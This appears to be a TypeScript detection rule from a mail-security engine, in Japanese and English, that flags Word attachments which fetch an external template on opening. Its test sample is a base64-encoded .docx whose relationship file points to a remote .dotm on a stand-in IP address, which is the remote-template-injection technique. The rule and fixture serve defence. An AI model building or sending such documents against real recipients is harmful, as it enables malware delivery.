// A document that fetches something else when opened.
import type { MailRule } from "#src/engine/mail/rule.ts";

export const fileRemoteTemplate: MailRule = {
  id: "file-remote-template",
  family: "attachment",
  severity: "high",
  title: {
    ja: "開くと、外から別のものを取り込む文書です",
    en: "A document that fetches something else when opened",
  },
  explanation: {
    ja: "文書そのものは空でも、開いたあとに外のプログラムを読み込みます。",
    en: "Harmless by itself, it loads a program from outside.",
  },
  action: "do-not-open",
  match: { kind: "signal" },
  samples: {
    match: [
      {
        attachments: [
          {
            name: "見積.docx",
            type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            base64:
              "UEsDBBQAAAAAAABIhlzHHBc8CAAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbDxUeXBlcy8+UEsDBBQAAAAAAABIhlzdWoYNDQAAAA0AAAARAAAAd29yZC9kb2N1bWVudC54bWw8dzpkb2N1bWVudC8+UEsDBBQAAAAAAABIhlwv7BjCzQAAAM0AAAAcAAAAd29yZC9fcmVscy9zZXR0aW5ncy54bWwucmVsczxSZWxhdGlvbnNoaXBzPjxSZWxhdGlvbnNoaXAgSWQ9InJJZDEiIFR5cGU9Imh0dHA6Ly9zY2hlbWFzLm9wZW54bWxmb3JtYXRzLm9yZy9vZmZpY2VEb2N1bWVudC8yMDA2L3JlbGF0aW9uc2hpcHMvYXR0YWNoZWRUZW1wbGF0ZSIgVGFyZ2V0PSJodHRwOi8vMjAzLjAuMTEzLjUvdC5kb3RtIiBUYXJnZXRNb2RlPSJFeHRlcm5hbCIvPjwvUmVsYXRpb25zaGlwcz5QSwECFAMUAAAAAAAASIZcxxwXPAgAAAAIAAAAEwAAAAAAAAAAAAAAgAEAAAAAW0NvbnRlbnRfVHlwZXNdLnhtbFBLAQIUAxQAAAAAAABIhlzdWoYNDQAAAA0AAAARAAAAAAAAAAAAAACAATkAAAB3b3JkL2RvY3VtZW50LnhtbFBLAQIUAxQAAAAAAABIhlwv7BjCzQAAAM0AAAAcAAAAAAAAAAAAAACAAXUAAAB3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzUEsFBgAAAAADAAMAygAAAHwBAAAAAA==",
          },
        ],
      },
    ],
    miss: [
      {
        text: "いつもお世話になっております。見積書をお送りします。ご査収ください。",
        attachments: [
          {
            name: "案内.pdf",
            type: "application/pdf",
            base64:
              "JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqCjIgMCBvYmo8PC9UeXBlL1BhZ2VzL0NvdW50IDEvS2lkc1szIDAgUl0+PmVuZG9iagozIDAgb2JqPDwvVHlwZS9QYWdlL1BhcmVudCAyIDAgUj4+ZW5kb2JqCnRyYWlsZXI8PC9Sb290IDEgMCBSPj4KJSVFT0YK",
          },
        ],
      },
    ],
  },
};
